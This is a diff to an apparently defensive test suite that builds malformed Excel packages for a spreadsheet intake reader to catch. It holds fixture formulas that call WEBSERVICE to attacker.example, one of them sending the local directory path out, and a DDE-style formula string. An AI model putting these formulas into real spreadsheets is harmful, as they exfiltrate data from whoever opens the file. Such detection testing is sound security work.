@@ -485,6 +485,29 @@ CASES: list[tuple[str, str, Builder]] = [
      lambda pkg: _replace(pkg, _strings(pkg), _sst(f"<si><t>{'x' * 40_000}</t></si>"))),
     ("lying-unique-count.xlsx", "too-much-text",
      lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>", "4000000000"))),
+    # Packages two programs could read two ways, and formulas that reach outside.
+    ("second-workbook.xlsx", "ambiguous-package", lambda pkg: pkg.add(
+        "xl/book2.xml", pkg.parts["xl/workbook.xml"]).relate(
+        "", f"{OFFICE_RELS}/officeDocument", "/xl/book2.xml").zip()),
+    ("demoted-workbook.xlsx", "ambiguous-package", lambda pkg: _main_type(pkg, "application/xml")),
+    ("duplicate-relationship-id.xlsx", "ambiguous-package", lambda pkg: pkg.edit(
+        "xl/_rels/workbook.xml.rels", "</Relationships>",
+        f'<Relationship Id="rId1" Type="{OFFICE_RELS}/worksheet" Target="/{pkg.sheet}"/></Relationships>').zip()),
+    ("strict-open-xml.xlsx", "strict-xlsx", lambda pkg: pkg.edit(
+        "_rels/.rels", f"{OFFICE_RELS}/officeDocument",
+        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument").zip()),
+    ("cell-in-extension.xlsx", "ambiguous-cell", lambda pkg: pkg.after_data(
+        '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><c r="B2"><v>163.5</v></c></ext></extLst>'
+    ).zip()),
+    ("cell-given-twice.xlsx", "ambiguous-cell",
+     lambda pkg: pkg.cells('<row r="1999"><c r="B1999"><v>1</v></c><c r="B1999"><v>2</v></c></row>').zip()),
+    ("webservice-formula.xlsx", "outward-formula", lambda pkg: pkg.cells(
+        '<row r="1999"><c r="B1999"><f>_xlfn.WEBSERVICE("https://attacker.example/?"&amp;INFO("directory"))</f>'
+        "</c></row>").zip()),
+    ("webservice-format.xlsx", "outward-formula", lambda pkg: pkg.after_data(
+        '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1" dxfId="0">'
+        '<formula>LEN(WEBSERVICE("https://attacker.example/"))&gt;0</formula></cfRule></conditionalFormatting>'
+    ).zip()),
 ]
 
 # Found in the cells, by the reader as it reads them (``xl_ni179.intake.reader``, under the
@@ -494,6 +517,7 @@ IN_CELLS = frozenset({
     "xfd-lying-dimension.xlsx", "xfd-honest-dimension.xlsx", "dimension-only.xlsx", "far-column.xlsx",
     "far-row.xlsx", "huge-merge.xlsx", "huge-hyperlink.xlsx", "element-flood.xlsx", "deep-nesting.xlsx",
     "too-many-cells.xlsx", "many-strings.xlsx", "long-string.xlsx", "lying-unique-count.xlsx",
+    "cell-in-extension.xlsx", "cell-given-twice.xlsx", "webservice-formula.xlsx",
 })
 
 PIPES = ('<row r="1999"><c r="A1999"><f>"a|b DDE(x)"&amp;B2</f></c><c r="B1999"><f>\'Q|1\'!A1</f>'
